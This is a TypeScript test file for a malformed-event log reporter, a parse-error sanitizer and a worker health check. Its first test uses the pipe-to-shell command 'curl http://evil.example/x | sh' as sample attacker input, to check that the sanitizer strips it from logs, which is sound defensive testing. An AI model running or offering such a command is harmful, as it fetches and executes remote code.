import { describe, expect, it } from "vitest";
import type { Logger } from "../logger";
import { MalformedReporter, sanitizeParseError } from "./malformed";
import { WorkerState } from "./stats";

function recordingLogger(): Logger & { entries: { message: string; context?: Record<string, unknown> }[] } {
  const entries: { message: string; context?: Record<string, unknown> }[] = [];
  const push = (message: string, context?: Record<string, unknown>): void => {
    entries.push(context === undefined ? { message } : { message, context });
  };
  return { entries, debug: push, info: push, warn: push, error: push };
}

describe("MalformedReporter", () => {
  it("keeps attacker content out of the log: JSON.parse's quoted input is cut", () => {
    let message = "";
    try {
      JSON.parse("curl http://evil.example/x | sh");
    } catch (err) {
      message = `not valid JSON (${(err as Error).message})`;
    }
    expect(message).toContain("curl http");
    expect(sanitizeParseError(message)).not.toContain("curl http");
    expect(sanitizeParseError(message)).toMatch(/^not valid JSON \(Unexpected token/);
  });

  it("reports the first lines of a window one by one with their number, then one summary per window", () => {
    let now = 0;
    const log = recordingLogger();
    const r = new MalformedReporter({ source: "events.jsonl", logger: log, burst: 2, windowMs: 1000, clock: () => now });
    r.report(3, [
      { line: 4, error: "e4" },
      { line: 7, error: "e7" },
      { line: 9, error: "e9" },
    ]);
    r.report(5, []);
    expect(log.entries.map((e) => e.context?.line)).toEqual([4, 7]);
    now = 1500;
    r.report(1, [{ line: 20, error: "e20" }]);
    r.flush();
    expect(log.entries.map((e) => [e.message, e.context?.line ?? e.context?.count])).toEqual([
      ["malformed event line skipped", 4],
      ["malformed event line skipped", 7],
      ["more malformed event lines skipped (not reported one by one)", 6],
      ["malformed event line skipped", 20],
    ]);
    expect(r.total).toBe(9);
  });
});

describe("WorkerState.health", () => {
  it("is error before the first snapshot, ok when caught up, stale when the database is down or the head runs ahead for too long", () => {
    let now = 1_000_000;
    const s = new WorkerState({ workerId: "w", role: "worker", hostname: "h", pid: 1, staleAfterMs: 5000, clock: () => now });
    expect(s.health()).toMatchObject({ status: "error", applied_seq: null, db: "down" });
    s.loaded = true;
    s.rules = 3;
    s.setDbUp(true);
    s.setApplied(10);
    s.setHead(10);
    expect(s.health()).toEqual({ status: "ok", role: "worker", worker_id: "w", applied_seq: 10, head_seq: 10, lag_seq: 0, lag_seconds: 0, rules: 3, db: "up" });
    s.setHead(12);
    now += 4000;
    expect(s.health()).toMatchObject({ status: "ok", lag_seq: 2, lag_seconds: 4 });
    now += 2000;
    expect(s.health()).toMatchObject({ status: "stale", lag_seq: 2, lag_seconds: 6 });
    s.setApplied(12);
    expect(s.health()).toMatchObject({ status: "ok", lag_seconds: 0 });
    s.setDbUp(false);
    expect(s.health()).toMatchObject({ status: "stale", db: "down" });
    s.fatal = "tag output closed";
    expect(s.health()).toMatchObject({ status: "error", reason: "tag output closed" });
  });
});
